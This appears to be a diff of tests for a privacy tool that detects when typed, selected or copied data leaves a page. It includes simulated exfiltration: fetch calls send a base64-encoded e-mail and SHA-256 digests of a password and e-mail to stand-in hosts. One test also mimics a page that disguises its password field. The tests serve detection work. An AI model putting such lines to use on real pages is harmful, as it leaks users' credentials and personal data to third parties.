@@ -113,15 +113,18 @@ test("a form that is sent is told with its button, once; so is a button beside a
   const email = await typed("email\temail\tE-mail\temail", EMAIL);
   assert.deepEqual([fields, button], [[email.field], "Request appointment"]);
   await page.type("#q", "oncology");
+  await page.keyboard.press("Enter");
+  await until(async () => (await told("submitted")).length === 2, "Enter");
   await page.click("#go");
   const search = await until(async () => (await told("submitted")).find((one) => one.button === "Find a doctor"), "the button");
   assert.deepEqual(search.fields, [(await typed("search\tq\tSearch\t", "oncology")).field]);
-  assert.equal((await told("submitted")).length, 2, JSON.stringify(await told("submitted")));
-  await page.focus("#q");
-  await page.keyboard.press("Enter");
+  // What a page makes up is none. A field's words told after it say that it was heard.
   await page.evaluate(() => document.querySelector("#go").click());
   await page.evaluate(() => document.querySelector("#intake").dispatchEvent(new Event("submit", { bubbles: true })));
-  assert.ok((await told("submitted")).every((one) => ["Request appointment", "Find a doctor", "Enter"].includes(one.button)));
+  await page.evaluate(() => document.querySelector("#q").dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true })));
+  await page.type("[name=reason]", "after-the-forgeries");
+  await typed("textarea\treason\tReason\t", "after-the-forgeries");
+  assert.deepEqual((await told("submitted")).map((one) => one.button), ["Request appointment", "Enter", "Find a doctor"]);
 });
 
 test("what is still being typed is told before the page is left", async () => {
@@ -135,12 +138,23 @@ test("selected text is told; what is selected in a field is not", async () => {
   const { page } = watched;
   await page.type("[name=city]", "a city with many letters");
   await page.evaluate(() => document.querySelector("[name=city]").select());
+  // What is copied is told at once.
+  const copy = async () => {
+    await page.evaluate(() => { window.copied = new Promise((done) => addEventListener("copy", done, { once: true })).then(() => true); });
+    await page.keyboard.down("Control");
+    await page.keyboard.press("KeyC", { commands: ["Copy"] });
+    await page.keyboard.up("Control");
+    assert.equal(await page.evaluate(() => window.copied), true, "it was copied");
+  };
+  await copy();
   await page.evaluate(() => {
     document.activeElement.blur();
     getSelection().selectAllChildren(document.querySelector("#words"));
   });
-  await until(async () => (await told("selected")).some(({ text }) => text === "Results of your thyroid panel are in."), "the words");
-  assert.equal((await told("selected")).length, 1);
+  await copy();
+  const words = "Results of your thyroid panel are in.";
+  await until(async () => (await told("selected")).some(({ text }) => text === words), "the words");
+  assert.deepEqual((await told("selected")).map(({ text }) => text), [words]);
 });
 
 test("a frame of another site tells what it is handed; the page's own frames and windows do not", async () => {
@@ -193,6 +207,21 @@ test("a password is in no journal, no log and no storage", async () => {
   assert.ok(kept.includes("beside-the-password"), "clean twin: other words are kept, and would be found");
   assert.ok(!kept.includes(PASSWORD), "the password is kept nowhere");
   for (const what of ["log", "view", "report"]) assert.ok(!(await watched.export(what)).includes(PASSWORD), what);
+});
+
+test("a password that is shown before it is typed is one all the same", async () => {
+  const { page } = watched;
+  await page.evaluate(() => {
+    const field = document.querySelector("[name=pw]");
+    // As pages do that show it where the button beside it is pressed, or as soon as somebody goes there.
+    field.addEventListener("focus", () => Object.assign(field, { type: "text", name: "x", autocomplete: "off" }).closest("label").firstChild.remove());
+  });
+  await page.type("[name=pw]", PASSWORD);
+  await page.type("[name=reason]", "after-the-password");
+  await typed("textarea\treason\tReason\t", "after-the-password");
+  const line = (await told("typed")).find((one) => /^\w+\tx\t/.test(one.about));
+  assert.deepEqual([line.about.split("\t")[0], line.secret, line.value], ["password", true, ""]);
+  assert.ok(!(await watched.export("log")).includes(PASSWORD));
 });
 
 test("the page sees nothing of it: no element, attribute or event of its own holds what was typed", async () => {
@@ -309,11 +338,28 @@ test("what is typed becomes known, and is found where it leaves in disguise; its
 
 test("what was typed is known again after the worker was ended; a password is not", async () => {
   const { page } = watched;
+  const digests = (to) => page.evaluate(async (host, mail, password) => {
+    const hex = async (text) => [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)))]
+      .map((byte) => byte.toString(16).padStart(2, "0")).join("");
+    // The password first: what is told of the address was told after it was read.
+    for (const text of [password, mail]) await fetch(`https://${host}/?q=${await hex(text)}`, { mode: "no-cors" });
+  }, to, EMAIL, PASSWORD);
+  const left = (view, what, host) => view.known.filter((one) => one.what === what).flatMap((one) => one.left).filter((one) => one.name.includes(host));
+  const lost = (view) => view.blind_spots.filter(({ said }) => /password or card number typed before the restart is no longer looked for/.test(said));
   await page.type("[name=email]", EMAIL);
   await page.type("[name=pw]", PASSWORD);
+  await page.focus("[name=reason]");
   await watched.untilView((v) => v.known.length >= 2, "both to be known");
+  await digests("before.example");
+  const before = await watched.untilView((v) => left(v, "E-mail address", "before.example").length > 0, "that it left");
+  assert.equal(left(before, "Password", "before.example").length, 1, "clean twin: a password's digest is proven before the worker's end");
+  assert.deepEqual(lost(before), []);
   await watched.covered();
   await it.browser.killWorker();
-  await page.evaluate((mail) => fetch(`https://collector.example/?q=${btoa(mail)}`, { mode: "no-cors" }).then(() => {}), EMAIL);
-  await watched.untilView((v) => v.known.some((one) => one.left.length > 0), "that it left, told by the new worker");
+  await digests("after.example");
+  const after = await watched.untilView((v) => left(v, "E-mail address", "after.example").length > 0, "that it left, told by the new worker");
+  assert.deepEqual(after.known.filter((one) => one.left.some(({ name }) => name.includes("after.example"))).map((one) => one.what), ["E-mail address"]);
+  const proofs = after.findings.filter((f) => f.recipient?.host === "after.example").flatMap((f) => f.evidence).flatMap((e) => e.known?.value ?? []);
+  assert.ok(proofs.length > 0 && proofs.every((value) => /e-mail/i.test(value)), JSON.stringify(proofs));
+  assert.equal(lost(after).length, 1, JSON.stringify(after.blind_spots));
 });
